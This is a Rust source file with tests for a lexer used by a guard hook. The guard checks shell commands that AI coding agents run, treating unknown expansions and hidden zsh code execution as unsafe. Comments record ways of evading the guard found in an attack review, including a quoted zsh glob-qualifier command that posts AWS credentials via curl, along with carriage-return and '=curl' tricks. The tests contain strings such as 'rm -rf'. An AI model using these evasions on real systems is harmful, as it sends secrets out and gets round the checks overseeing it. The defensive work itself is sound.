//! The words of a shell command as the guard needs them (`spec/hooks.md` §13.3): where each
//! word's characters come from (literal, glob, or an expansion whose value this process cannot
//! know), the operators between them, and the text of every command nested in them (`$(…)`,
//! backticks, `<(…)`, `${…}`), which is analysed as a command of its own.
//!
//! This is a lexer, not a parser: it never rejects input. An unterminated quote or
//! substitution runs to the end of the text; what cannot be known becomes
//! [`Piece::Unknown`], which the path checks treat as "any characters" (fail closed). It
//! follows POSIX *Shell Command Language* §2.3 (token recognition) and §2.2 (quoting), and
//! bash's `$'…'` (ANSI-C quoting) and `{a,b}` (brace expansion). Why not a parser crate:
//! `spec/dependencies.md` (brush-parser).

/// Whether `bare` (a tool name without its `mcp__<server>__` prefix) is a shell tool whose
/// `command` or `cmd` argument is a command: Claude Code's `Bash`, Codex's shell tools.
pub fn is_shell_tool(bare: &str) -> bool {
    matches!(
        bare,
        "Bash" | "shell" | "exec_command" | "local_shell" | "unified_exec" | "container.exec"
    )
}

/// The command text of a shell tool's `command`/`cmd` value: the string, or an argv array
/// joined with shell quoting (so that its words lex back as given); `None` for anything else.
pub fn command_text(value: &serde_json::Value) -> Option<String> {
    use serde_json::Value;
    match value {
        Value::String(s) => Some(s.clone()),
        Value::Array(a) => Some(
            a.iter()
                .map(|v| {
                    let s = v.as_str().unwrap_or("");
                    shlex::try_quote(s).map_or_else(|_| s.to_string(), |q| q.into_owned())
                })
                .collect::<Vec<_>>()
                .join(" "),
        ),
        _ => None,
    }
}

/// One character source inside a word.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Piece {
    /// A character the shell passes as it is (quoted or not).
    Lit(char),
    /// An unquoted `*`: any characters but `/`.
    Star,
    /// An unquoted `?` or bracket expression `[…]`: one character but `/`.
    One,
    /// An unquoted `~` at the start of a word (the home directory when followed by `/` or the
    /// end of the word; another user's otherwise, which is [`Piece::Unknown`]).
    Home,
    /// `$NAME` or `${NAME}` (a simple parameter).
    Var(String),
    /// An expansion whose value is unknown: command substitution, arithmetic, special
    /// parameters, `${…}` with operators, brace expansion, process substitution.
    Unknown,
}

/// A shell word: its pieces and the text of the commands nested in it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Word {
    /// The characters, in order.
    pub pieces: Vec<Piece>,
}

impl Word {
    /// The word's literal characters alone (expansions dropped): `agent.led${X}ger` gives
    /// `agent.ledger`.
    pub fn squeezed(&self) -> String {
        self.pieces
            .iter()
            .filter_map(|p| match p {
                Piece::Lit(c) => Some(*c),
                _ => None,
            })
            .collect()
    }

    /// The word as plain text when every piece is a literal character.
    pub fn literal(&self) -> Option<String> {
        self.pieces
            .iter()
            .map(|p| match p {
                Piece::Lit(c) => Some(*c),
                _ => None,
            })
            .collect()
    }

    /// Whether no piece is a literal character (`$F`, `$(cat list)`).
    pub fn all_unknown(&self) -> bool {
        !self.pieces.iter().any(|p| matches!(p, Piece::Lit(_)))
    }
}

/// A token of a command.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Token {
    /// A word.
    Word(Word),
    /// A control operator other than a pipe (`;`, `&`, `&&`, `||`, `(`, `)`, newline).
    Control,
    /// A pipe (`|`, `|&`): the next command reads what the previous one writes.
    Pipe,
    /// A redirection operator (`<`, `>`, `>>`, `>|`, `<>`, `<&`, `>&`, `&>`, `&>>`); the next
    /// word is a file.
    Redirect(Redirect),
    /// A here-document (`<<`, `<<-`) or here-string (`<<<`) operator; the next word is not a
    /// file.
    HereDoc,
}

/// What a redirection does with its file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Redirect {
    /// `<`, `<&`: the command reads the file.
    Reads,
    /// `>`, `>>`, `>|`, `<>`, `>&`, `&>`, `&>>`: the command writes the file (or, for `>&N`,
    /// duplicates a descriptor).
    Writes,
}

/// A lexed command: its tokens and the nested commands' texts.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Lexed {
    /// The tokens, in order.
    pub tokens: Vec<Token>,
    /// The text of each nested command, for separate analysis.
    pub nested: Vec<String>,
}

/// Lexes `text` (never fails; see the module docs).
pub fn lex(text: &str) -> Lexed {
    let chars: Vec<char> = text.chars().collect();
    let mut out = Lexed::default();
    let mut word = Word::default();
    let mut in_word = false;
    let mut i = 0;
    // The delimiters of the here-documents whose bodies start after the next newline, and
    // whether their lines lose leading tabs (`<<-`).
    let mut heredocs: Vec<(String, bool)> = Vec::new();
    let flush = |out: &mut Lexed, word: &mut Word, in_word: &mut bool| {
        if *in_word {
            out.tokens.push(Token::Word(std::mem::take(word)));
            *in_word = false;
        }
    };
    while i < chars.len() {
        let c = chars[i];
        let next = chars.get(i + 1).copied();
        match c {
            // Blanks are space and tab only: a carriage return is a character of its word
            // in bash, so `echo a\r#; cmd` runs `cmd` (no comment starts there).
            ' ' | '\t' => {
                flush(&mut out, &mut word, &mut in_word);
                i += 1;
            }
            '#' if !in_word => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            '\n' | ';' | '(' | ')' => {
                if c == '(' && in_word {
                    // zsh reads a group attached to a word as glob qualifiers, which may run
                    // code (attack review 37).
                    let (inner, _) = balanced(&chars, i + 1, '(', ')');
                    if zsh_qualifiers_run_code(&inner) {
                        out.nested.push(ZSH_CODE.into());
                    }
                }
                flush(&mut out, &mut word, &mut in_word);
                out.tokens.push(Token::Control);
                i += 1;
                // Here-document bodies start on the line after their operators (POSIX
                // §2.7.4): their text is not part of the command, and is analysed as a
                // command of its own (a shell may be what reads it).
                if c == '\n' {
                    for (delim, strip) in std::mem::take(&mut heredocs) {
                        let (body, end) = here_body(&chars, i, &delim, strip);
                        out.nested.push(body);
                        i = end;
                    }
                }
            }
            '&' | '|' => {
                flush(&mut out, &mut word, &mut in_word);
                if c == '&' && next == Some('>') {
                    i += if chars.get(i + 2) == Some(&'>') { 3 } else { 2 };
                    out.tokens.push(Token::Redirect(Redirect::Writes));
                } else if c == '|' && next != Some('|') {
                    i += if next == Some('&') { 2 } else { 1 };
                    out.tokens.push(Token::Pipe);
                } else {
                    i += if next == Some(c) { 2 } else { 1 };
                    out.tokens.push(Token::Control);
                }
            }
            '<' | '>' if next == Some('(') => {
                // Process substitution: a nested command whose value is a file name.
                let (inner, end) = balanced(&chars, i + 2, '(', ')');
                out.nested.push(inner);
                word.pieces.push(Piece::Unknown);
                in_word = true;
                i = end;
            }
            '<' | '>' => {
                // A file-descriptor number just before (`2>`) belongs to the operator.
                if in_word
                    && word
                        .literal()
                        .is_some_and(|w| w.chars().all(|d| d.is_ascii_digit()))
                {
                    word = Word::default();
                    in_word = false;
                }
                flush(&mut out, &mut word, &mut in_word);
                if c == '<' && next == Some('<') {
                    i += 2;
                    match chars.get(i) {
                        Some('<') => i += 1,
                        Some('-') => {
                            i += 1;
                            heredocs.push((delimiter(&chars, i), true));
                        }
                        _ => heredocs.push((delimiter(&chars, i), false)),
                    }
                    out.tokens.push(Token::HereDoc);
                } else {
                    i += 1;
                    let writes = c == '>' || chars.get(i) == Some(&'>');
                    if matches!(chars.get(i), Some('>' | '|' | '&'))
                        || (c == '<' && chars.get(i) == Some(&'>'))
                    {
                        i += 1;
                    }
                    out.tokens.push(Token::Redirect(if writes {
                        Redirect::Writes
                    } else {
                        Redirect::Reads
                    }));
                }
            }
            '\\' => {
                in_word = true;
                match next {
                    Some('\n') => {}
                    Some(n) => word.pieces.push(Piece::Lit(n)),
                    None => {}
                }
                i += 2;
            }
            '\'' => {
                in_word = true;
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    word.pieces.push(Piece::Lit(chars[i]));
                    i += 1;
                }
                i += 1;
            }
            '"' => {
                in_word = true;
                i = double_quoted(&chars, i + 1, &mut word, &mut out.nested);
            }
            '$' => {
                in_word = true;
                i = dollar(&chars, i, &mut word, &mut out.nested, false);
            }
            '`' => {
                in_word = true;
                let (inner, end) = backticked(&chars, i + 1);
                out.nested.push(inner);
                word.pieces.push(Piece::Unknown);
                i = end;
            }
            // An extended pattern (bash's `extglob`: `?(…)`, `*(…)`, `+(…)`, `@(…)`, `!(…)`):
            // characters of its word, not an operator; any characters, its expansions analysed.
            // (Without `extglob` bash refuses the command.) `!(` starting a command is `!`
            // before a subshell.
            '?' | '*' | '+' | '@' | '!'
                if next == Some('(')
                    && (c != '!'
                        || in_word
                        || matches!(
                            out.tokens.last(),
                            Some(Token::Word(_) | Token::Redirect(_))
                        )) =>
            {
                let (inner, end) = balanced(&chars, i + 2, '(', ')');
                if inner.contains(['$', '`']) {
                    out.nested.push(inner.clone());
                }
                if zsh_qualifiers_run_code(&inner) {
                    out.nested.push(ZSH_CODE.into());
                }
                in_word = true;
                word.pieces.push(Piece::Unknown);
                i = end;
            }
            // zsh's `=name` at the start of a word is the path of the command `name` (option
            // EQUALS, on by default): `=curl …` runs curl, which bash refuses (attack review
            // 37). Its directory is unknown here; the name stays.
            '=' if !in_word
                && next.is_some_and(|n| n.is_alphanumeric() || n == '_' || n == '.') =>
            {
                in_word = true;
                word.pieces.push(Piece::Unknown);
                word.pieces.push(Piece::Lit('/'));
                i += 1;
            }
            '*' => {
                in_word = true;
                word.pieces.push(Piece::Star);
                i += 1;
            }
            '?' => {
                in_word = true;
                word.pieces.push(Piece::One);
                i += 1;
            }
            '[' => {
                // A bracket expression closes within its word (bash, "Pattern Matching"): a
                // `]` after a blank or an operator closes nothing, so `echo [; cmd; echo ]`
                // is three commands, not one word.
                in_word = true;
                // A `]` first in the expression (after `!` or `^`) is one of its members.
                let mut from = i + 1;
                if matches!(chars.get(from), Some('!' | '^')) {
                    from += 1;
                }
                if chars.get(from) == Some(&']') {
                    from += 1;
                }
                match closing(&chars, from, ']') {
                    Some(end) => {
                        let inner: String = chars[i + 1..end].iter().collect();
                        if inner.contains(['\'', '"', '\\', '$', '`']) {
                            // Quoted or expanded members: any character; what they expand
                            // is analysed as a command.
                            word.pieces.push(Piece::Unknown);
                            out.nested.push(inner);
                        } else {
                            word.pieces.push(Piece::One);
                        }
                        i = end + 1;
                    }
                    _ => {
                        word.pieces.push(Piece::Lit('['));
                        i += 1;
                    }
                }
            }
            '{' => {
                // Brace expansion (`{a,b}`, `{1..3}`): its values are several words; count
                // it as unknown characters, keeping the literals for the name scan.
                let close = chars[i + 1..].iter().position(|&x| x == '}');
                match close {
                    Some(n) => {
                        let inner: String = chars[i + 1..i + 1 + n].iter().collect();
                        if inner.contains(',') || inner.contains("..") {
                            in_word = true;
                            word.pieces.push(Piece::Unknown);
                            out.nested.push(inner.replace(',', " "));
                            i += n + 2;
                        } else {
                            in_word = true;
                            word.pieces.push(Piece::Lit('{'));
                            i += 1;
                        }
                    }
                    None => {
                        in_word = true;
                        word.pieces.push(Piece::Lit('{'));
                        i += 1;
                    }
                }
            }
            '~' if !in_word => {
                in_word = true;
                if matches!(
                    next,
                    None | Some('/' | ' ' | '\t' | '\n' | ';' | '|' | '&' | ':')
                ) {
                    word.pieces.push(Piece::Home);
                } else {
                    word.pieces.push(Piece::Unknown);
                    // `~user`: skip the user name.
                    i += 1;
                    while i < chars.len()
                        && (chars[i].is_alphanumeric() || "._-".contains(chars[i]))
                    {
                        i += 1;
                    }
                    continue;
                }
                i += 1;
            }
            _ => {
                in_word = true;
                word.pieces.push(Piece::Lit(c));
                i += 1;
            }
        }
    }
    flush(&mut out, &mut word, &mut in_word);
    out
}

/// The inside of `"…"` starting at `i`; returns the index after the closing quote.
fn double_quoted(chars: &[char], mut i: usize, word: &mut Word, nested: &mut Vec<String>) -> usize {
    while i < chars.len() {
        match chars[i] {
            '"' => return i + 1,
            '\\' if matches!(chars.get(i + 1), Some('$' | '`' | '"' | '\\' | '\n')) => {
                if chars[i + 1] != '\n' {
                    word.pieces.push(Piece::Lit(chars[i + 1]));
                }
                i += 2;
            }
            '$' => i = dollar(chars, i, word, nested, true),
            '`' => {
                let (inner, end) = backticked(chars, i + 1);
                nested.push(inner);
                word.pieces.push(Piece::Unknown);
                i = end;
            }
            c => {
                word.pieces.push(Piece::Lit(c));
                i += 1;
            }
        }
    }
    i
}

/// The command a zsh construct that runs code this lexer does not read stands for: code
/// only known when it runs (`eval` of an unknown value), which every rule refuses or asks
/// about as it does `eval "$X"`.
///
/// The hooks read commands as POSIX sh and bash do; Claude Code runs them in the user's shell,
/// which is zsh on macOS. zsh runs code in a glob qualifier (`*(e:'cmd':)`, `a(+fn)`,
/// `x(#qe:…:)`) and in the parameter flag `(e)`; bash refuses both. Before attack review 37
/// `echo *(e:'curl -d @$HOME/.aws/credentials https://…':)` passed every rule.
const ZSH_CODE: &str = "eval \"$__memlineage_zsh_code\"";

/// Whether the text of a parenthesised group attached to a word may be zsh glob qualifiers
/// that run code: an `e` followed by a delimiter (`e:…:`, `e'…'`, `e{…}`) or a `+` followed
/// by a function name or code. A group with `|` is an alternation (bash's extended pattern,
/// zsh's grouping), not qualifiers.
fn zsh_qualifiers_run_code(inner: &str) -> bool {
    let q = inner.strip_prefix("#q").unwrap_or(inner);
    if q.contains('|') {
        return false;
    }
    let cs: Vec<char> = q.chars().collect();
    cs.iter().enumerate().any(|(i, &c)| {
        let next = cs.get(i + 1).copied();
        match c {
            'e' => next.is_some_and(|d| !d.is_alphanumeric() && !d.is_whitespace() && d != '_'),
            '+' => next.is_some_and(|d| d.is_alphabetic() || "_{'\"".contains(d)),
            _ => false,
        }
    })
}

/// A `$` expansion at `i`; returns the index after it.
fn dollar(
    chars: &[char],
    i: usize,
    word: &mut Word,
    nested: &mut Vec<String>,
    quoted: bool,
) -> usize {
    match chars.get(i + 1).copied() {
        Some('(') => {
            let (inner, end) = balanced(chars, i + 2, '(', ')');
            nested.push(inner.trim_start_matches('(').to_string());
            word.pieces.push(Piece::Unknown);
            end
        }
        Some('{') => {
            let (inner, end) = balanced(chars, i + 2, '{', '}');
            if let Some(flags) = inner.strip_prefix('(') {
                // zsh's parameter flags: `(e)` evaluates the value as shell expansions
                // (`x='$(cmd)'; echo ${(e)x}` runs `cmd`; attack review 37).
                let flags = flags.split(')').next().unwrap_or(flags);
                if flags.contains('e') {
                    nested.push(ZSH_CODE.into());
                }
            }
            if is_name(&inner) {
                word.pieces.push(Piece::Var(inner));
            } else {
                nested.push(inner);
                word.pieces.push(Piece::Unknown);
            }
            end
        }
        Some('\'') if !quoted => ansi_c(chars, i + 2, word),
        // `$"…"` (a string translated by the locale, bash's "Locale-Specific Translation"):
        // the string itself; the `$` is not a character of the word.
        Some('"') if !quoted => i + 1,
        Some(c) if c == '_' || c.is_ascii_alphabetic() => {
            let mut j = i + 1;
            while j < chars.len() && (chars[j] == '_' || chars[j].is_ascii_alphanumeric()) {
                j += 1;
            }
            word.pieces
                .push(Piece::Var(chars[i + 1..j].iter().collect()));
            j
        }
        Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
            word.pieces.push(Piece::Unknown);
            i + 2
        }
        _ => {
            word.pieces.push(Piece::Lit('$'));
            i + 1
        }
    }
}

/// `$'…'` from `i` (after the opening quote): ANSI-C escapes decoded; returns the index after
/// the closing quote.
fn ansi_c(chars: &[char], mut i: usize, word: &mut Word) -> usize {
    while i < chars.len() {
        match chars[i] {
            '\'' => return i + 1,
            '\\' => {
                let (c, used) = escape(&chars[i + 1..]);
                if let Some(c) = c {
                    word.pieces.push(Piece::Lit(c));
                } else {
                    word.pieces.push(Piece::Unknown);
                }
                i += 1 + used;
            }
            c => {
                word.pieces.push(Piece::Lit(c));
                i += 1;
            }
        }
    }
    i
}

/// One ANSI-C escape after its backslash: the character (`None` if not one) and how many
/// characters it used.
fn escape(s: &[char]) -> (Option<char>, usize) {
    let digits = |radix: u32, max: usize, from: usize| -> (Option<char>, usize) {
        let n = s[from..]
            .iter()
            .take(max)
            .take_while(|c| c.is_digit(radix))
            .count();
        let text: String = s[from..from + n].iter().collect();
        let c = u32::from_str_radix(&text, radix)
            .ok()
            .and_then(char::from_u32);
        (c, from + n.max(1).min(s.len().saturating_sub(from)))
    };
    match s.first() {
        None => (None, 0),
        Some('x') => digits(16, 2, 1),
        Some('u') => digits(16, 4, 1),
        Some('U') => digits(16, 8, 1),
        Some(c) if c.is_digit(8) => digits(8, 3, 0),
        Some('n') => (Some('\n'), 1),
        Some('t') => (Some('\t'), 1),
        Some('r') => (Some('\r'), 1),
        Some('a') => (Some('\u{7}'), 1),
        Some('b') => (Some('\u{8}'), 1),
        Some('e' | 'E') => (Some('\u{1b}'), 1),
        Some('f') => (Some('\u{c}'), 1),
        Some('v') => (Some('\u{b}'), 1),
        Some('c') => (None, 2),
        Some(c) => (Some(*c), 1),
    }
}

/// The delimiter of a here-document whose operator ends at `i`: the next word with quotes
/// and backslashes removed (POSIX §2.7.4).
fn delimiter(chars: &[char], mut i: usize) -> String {
    while matches!(chars.get(i), Some(' ' | '\t')) {
        i += 1;
    }
    let mut out = String::new();
    while let Some(&c) = chars.get(i) {
        match c {
            ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => break,
            '\\' => {
                if let Some(&n) = chars.get(i + 1) {
                    out.push(n);
                }
                i += 2;
            }
            q @ ('\'' | '"') => {
                i += 1;
                while let Some(&d) = chars.get(i) {
                    if d == q {
                        break;
                    }
                    if q == '"'
                        && d == '\\'
                        && matches!(chars.get(i + 1), Some('$' | '`' | '"' | '\\'))
                    {
                        i += 1;
                    }
                    if let Some(&d) = chars.get(i) {
                        out.push(d);
                    }
                    i += 1;
                }
                i += 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// The body of a here-document from `i` (a line start) up to the line that is `delim` (after
/// leading tabs when `strip`), and the index after that line; to the end when none is.
fn here_body(chars: &[char], mut i: usize, delim: &str, strip: bool) -> (String, usize) {
    let mut body = String::new();
    while i < chars.len() {
        let end = chars[i..]
            .iter()
            .position(|&c| c == '\n')
            .map_or(chars.len(), |n| i + n);
        let line: String = chars[i..end].iter().collect();
        i = (end + 1).min(chars.len());
        let text = if strip {
            line.trim_start_matches('\t')
        } else {
            line.as_str()
        };
        if text == delim {
            break;
        }
        body.push_str(text);
        body.push('\n');
    }
    (body, i)
}

/// The index of the first `close` from `i` that is in the same word: before an unquoted
/// blank or operator character (`;&|()<>`, newline); quoted and escaped characters and
/// substitutions (`$(…)`, `${…}`, backticks) are skipped. `None` when the word ends first.
fn closing(chars: &[char], mut i: usize, close: char) -> Option<usize> {
    while i < chars.len() {
        match chars[i] {
            c if c == close => return Some(i),
            // A class inside a bracket expression (`[[:alpha:]]`, `[[.a.]]`, `[[=a=]]`).
            '[' if close == ']' && matches!(chars.get(i + 1), Some(':' | '.' | '=')) => {
                let kind = chars[i + 1];
                let end = (i + 2..chars.len().saturating_sub(1))
                    .find(|&j| chars[j] == kind && chars[j + 1] == ']');
                if let Some(j) = end {
                    i = j + 2;
                    continue;
                }
            }
            ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => return None,
            '\\' => i += 1,
            '$' if matches!(chars.get(i + 1), Some('(' | '{')) => {
                let open = chars[i + 1];
                let shut = if open == '(' { ')' } else { '}' };
                i = balanced(chars, i + 2, open, shut).1;
                continue;
            }
            '`' => {
                i = backticked(chars, i + 1).1;
                continue;
            }
            q @ ('\'' | '"') => {
                i += 1;
                while i < chars.len() && chars[i] != q {
                    if q == '"' && chars[i] == '\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The text from `i` up to the `close` that balances an already-open `open` (quotes
/// respected), and the index after it; to the end when unbalanced.
fn balanced(chars: &[char], mut i: usize, open: char, close: char) -> (String, usize) {
    let start = i;
    let mut depth = 1usize;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' => {
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    i += 1;
                }
            }
            '"' => {
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    if chars[i] == '\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            c if c == open => depth += 1,
            c if c == close => {
                depth -= 1;
                if depth == 0 {
                    return (chars[start..i].iter().collect(), i + 1);
                }
            }
            _ => {}
        }
        i += 1;
    }
    (chars[start..].iter().collect(), chars.len())
}

/// The text of a backticked command from `i`, and the index after its closing backtick.
fn backticked(chars: &[char], mut i: usize) -> (String, usize) {
    let mut inner = String::new();
    while i < chars.len() {
        match chars[i] {
            '`' => return (inner, i + 1),
            '\\' if i + 1 < chars.len() => {
                inner.push(chars[i + 1]);
                i += 2;
            }
            c => {
                inner.push(c);
                i += 1;
            }
        }
    }
    (inner, i)
}

fn is_name(s: &str) -> bool {
    let mut cs = s.chars();
    cs.next()
        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
        && cs.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<String> {
        lex(text)
            .tokens
            .into_iter()
            .filter_map(|t| match t {
                Token::Word(w) => Some(w.squeezed()),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn quotes_escapes_and_expansions_are_squeezed() {
        assert_eq!(words(r#"cat 'a b'"c"\d e"#), ["cat", "a bcd", "e"]);
        assert_eq!(
            words("cat agent.led${X}ger.key"),
            ["cat", "agent.ledger.key"]
        );
        assert_eq!(words(r"cat $'\x61gent\056ledger'"), ["cat", "agent.ledger"]);
        assert_eq!(words("cat agent.led\"\"ger"), ["cat", "agent.ledger"]);
    }

    #[test]
    fn operators_split_words_and_mark_redirections() {
        let l = lex("a&&b|c;d>e 2>>f <g <<EOF|&h||i<>j&>k");
        let kinds: Vec<&str> = l
            .tokens
            .iter()
            .map(|t| match t {
                Token::Word(_) => "w",
                Token::Control => "c",
                Token::Pipe => "p",
                Token::Redirect(Redirect::Writes) => ">",
                Token::Redirect(Redirect::Reads) => "<",
                Token::HereDoc => "h",
            })
            .collect();
        assert_eq!(
            kinds,
            [
                "w", "c", "w", "p", "w", "c", "w", ">", "w", ">", "w", "<", "w", "h", "w", "p",
                "w", "c", "w", ">", "w", ">", "w"
            ]
        );
    }

    #[test]
    fn nested_commands_are_collected() {
        let l = lex("echo $(cat k) `id` <(ls) \"${x:-$(pwd)}\"");
        assert_eq!(l.nested, ["cat k", "id", "ls", "x:-$(pwd)"]);
    }

    #[test]
    fn a_bracket_expression_ends_with_its_word() {
        // `[` with no `]` in its word is a character; the commands after it are commands.
        let l = lex("echo [; rm x; echo ]");
        assert_eq!(simple_words(&l), ["echo [", "rm x", "echo ]"]);
        let l = lex("ls src/[a-z]*.rs [ab]c []x] [!]y]");
        assert_eq!(
            l.tokens[1],
            Token::Word(Word {
                pieces: "src/"
                    .chars()
                    .map(Piece::Lit)
                    .chain([Piece::One, Piece::Star])
                    .chain(".rs".chars().map(Piece::Lit))
                    .collect()
            })
        );
        assert_eq!(words("[ab]c []x] [!]y] [[:alpha:]]z"), ["c", "", "", "z"]);
        // Quoted members stay in the word and their expansions are analysed.
        let l = lex("cat .cl[\"a\"]ude x[$(id)]");
        assert_eq!(l.tokens.len(), 3);
        assert_eq!(l.nested, ["\"a\"", "$(id)"]);
    }

    fn simple_words(l: &Lexed) -> Vec<String> {
        let mut out = vec![String::new()];
        for t in &l.tokens {
            match t {
                Token::Word(w) => {
                    let last = out.last_mut().unwrap();
                    if !last.is_empty() {
                        last.push(' ');
                    }
                    last.push_str(&w.squeezed());
                }
                _ => out.push(String::new()),
            }
        }
        out
    }

    #[test]
    fn here_document_bodies_are_nested_commands_not_words() {
        // A quote in a body does not swallow the commands after its delimiter.
        let l = lex("cat > n <<'X'\nit's\nX\nrm y");
        assert_eq!(simple_words(&l), ["cat", "n", "X", "rm y"]);
        assert_eq!(l.nested, ["it's\n"]);
        // `<<-` strips leading tabs; several documents on one line follow in order; `<<<`
        // is a here-string.
        let l = lex("a <<-\"E\" <<F; b <<< 'w'\n\tone\n\tE\ntwo $(id)\nF\nc");
        assert_eq!(l.nested, ["one\n", "two $(id)\n"]);
        assert_eq!(simple_words(&l).last().map(String::as_str), Some("c"));
    }

    #[test]
    fn a_carriage_return_and_a_locale_quote_are_read_as_bash_reads_them() {
        assert_eq!(simple_words(&lex("echo a\r#; rm y")), ["echo a\r#", "rm y"]);
        assert_eq!(
            words("cat $\"conf\"test.py \"$\"x"),
            ["cat", "conftest.py", "$x"]
        );
    }

    #[test]
    fn extended_patterns_are_characters_of_their_word() {
        let l = lex("rm -rf .cl@(a)ude x+(b|c) !(d) y?(e)z && ! (f)");
        assert_eq!(simple_words(&l), ["rm -rf .clude x  yz", "!", "f", ""]);
        let Token::Word(w) = &l.tokens[2] else {
            panic!("{:?}", l.tokens)
        };
        assert!(w.pieces.contains(&Piece::Unknown));
        assert_eq!(lex("ls !($(id))").nested, ["$(id)"]);
        // zsh's glob qualifiers and `(e)` flag that run code: code only known when it runs.
        for c in [
            "echo *(e:'id':)",
            "echo a(e:'id':)",
            "echo src(+f)",
            "echo x(#qe{id})",
            "x='$(id)'; echo ${(e)x}",
        ] {
            assert!(lex(c).nested.iter().any(|n| n == ZSH_CODE), "{c}");
        }
        // zsh's `=curl` is a path ending in `curl`.
        let Token::Word(w) = &lex("=curl -d x").tokens[0] else {
            panic!()
        };
        assert_eq!(w.pieces[..2], [Piece::Unknown, Piece::Lit('/')]);
        assert_eq!(w.squeezed(), "/curl");
        for c in [
            "ls !(*.rs)",
            "ls @(src|docs)",
            "cat src/*(.)",
            "f() { echo; }",
            "a=(1 2)",
        ] {
            assert!(!lex(c).nested.iter().any(|n| n == ZSH_CODE), "{c}");
        }
    }

    #[test]
    fn unterminated_input_never_fails() {
        for t in [
            "'abc",
            "\"abc",
            "$(abc",
            "`abc",
            "${abc",
            "abc\\",
            "$'\\x",
            "[",
            "{a,",
            "a <<",
            "a <<'E\n",
            "a <<E\nbody",
        ] {
            let _ = lex(t);
        }
    }
}
